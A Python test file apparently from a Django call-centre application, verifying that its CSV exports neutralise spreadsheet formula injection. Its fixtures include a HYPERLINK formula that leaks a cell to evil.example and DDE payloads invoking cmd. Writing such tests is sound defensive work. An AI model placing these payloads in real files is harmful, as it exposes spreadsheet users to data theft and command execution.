"""No CSV we write runs as a formula when a supervisor opens it in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from calls.models import Call
from calls.spreadsheet import safe_cell, unguarded
from contacts.imports.rows import OwnerIndex, columns_from, parse_row
from tests.factories import make_agent, make_contact, make_project, make_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)", "\t=1", " =1", "\uff1d1+1"],
)
def test_formulas_are_guarded(value):
    assert safe_cell(value) == "'" + value
    assert unguarded(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["+40722123456", "+40722123456; +40212345678", "-3.5", "Ion"])
def test_plain_numbers_and_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _supervisor() -> Client:
    client = Client()
    client.force_login(make_user("admin", is_staff=True))
    return client


def test_the_contacts_export_guards_names_and_imports_back_unchanged():
    project = make_project()
    make_contact(project, FORMULA, "+40722123456")
    response = _supervisor().get("/contacts/import/export.csv", {"project": project.pk})
    body = b"".join(response.streaming_content)
    header, row = _rows(body)
    assert row[0] == "'" + FORMULA and row[2] == "+40722123456"
    parsed = parse_row(row, 2, columns_from(header), "RO", OwnerIndex(project))
    assert parsed.name == FORMULA and parsed.phones == ["+40722123456"]


def test_the_history_export_guards_every_column_even_the_number():
    agent = make_agent()
    Call.objects.create(
        project=agent.project,
        agent=agent,
        direction="inbound",
        remote_number="=1+cmd|x",
        status="missed",
        note=FORMULA,
    )
    body = b"".join(_supervisor().get("/history/export.csv").streaming_content)
    text = body.decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text
    assert "'=1+cmd|x" in text


def test_the_statistics_export_guards_agent_names():
    agent = make_agent()
    agent.user.first_name = "=EVIL()"
    agent.user.save()
    Call.objects.create(
        project=agent.project, agent=agent, direction="outbound", remote_number="+40722123456"
    )
    response = _supervisor().get("/stats/export.csv", {"kind": "agents"})
    text = response.content.decode("utf-8-sig")
    assert "'=EVIL()" in text and "=EVIL()" not in text.replace("'=EVIL()", "")
